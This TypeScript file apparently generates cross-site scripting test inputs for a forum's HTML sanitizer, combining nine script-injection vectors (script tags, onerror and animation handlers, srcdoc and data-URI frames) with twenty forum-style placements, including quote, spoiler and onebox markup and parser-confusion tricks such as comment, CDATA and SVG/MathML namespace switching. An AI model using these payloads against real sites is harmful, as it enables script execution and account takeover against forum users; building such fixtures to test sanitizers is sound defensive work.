import { asDecimal, every, type Vector } from './vector.ts'

/** One of each kind, to be put where a forum puts what its members write. */
const vectors: Vector[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<script/x>${call}</script\t>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg><script>${asDecimal(call)}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) =>
    `<svg><a><animate attributeName=href values=javascript:${call} /><text>x</text></a></svg>`,
  (call) => `<iframe srcdoc="&lt;script&gt;parent.${call.slice(7)}&lt;/script&gt;"></iframe>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationend=${call}>x</b>`,
]

const places: ((inner: string) => string)[] = [
  (inner) => `<p>text ${inner} text</p>`,
  (inner) => `<table><tr>${inner}<td>x</td></tr></table>`,
  (inner) => `<table><caption>${inner}</table>`,
  (inner) =>
    `<blockquote class="ipsQuote"><div class="ipsQuote_contents">${inner}</div></blockquote>`,
  (inner) =>
    `<aside class="quote"><div class="title">${inner}</div><blockquote>${inner}</blockquote></aside>`,
  (inner) => `<aside class="onebox"><h3><a href="/x">${inner}</a></h3><p>${inner}</p></aside>`,
  (inner) => `<div class="ipsSpoiler"><div class="ipsSpoiler_header">${inner}</div>${inner}</div>`,
  (inner) => `<details><summary>${inner}</summary>${inner}</details>`,
  (inner) => `<pre><code>${inner}</code></pre>`,
  (inner) => `<a class="lightbox" href="/x">${inner}</a>`,
  (inner) => `<p><b><i><a href="/x"><h1>${inner}</b></p></i>`,
  (inner) => `${'<div>'.repeat(70)}${inner}`,
  (inner) => `${'<b>'.repeat(600)}${inner}`,
  (inner) => `<!-- > -->${inner}<!-- --!>${inner}-->`,
  (inner) => `<!-->${inner}-->`,
  (inner) => `<![CDATA[>${inner}]]>`,
  (inner) => `<?xml version="1.0"?>${inner}<?`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${inner}">`,
]

export const contexts: Vector[] = every(
  places,
  vectors,
  (place, vector) => (call) => place(vector(call)),
)
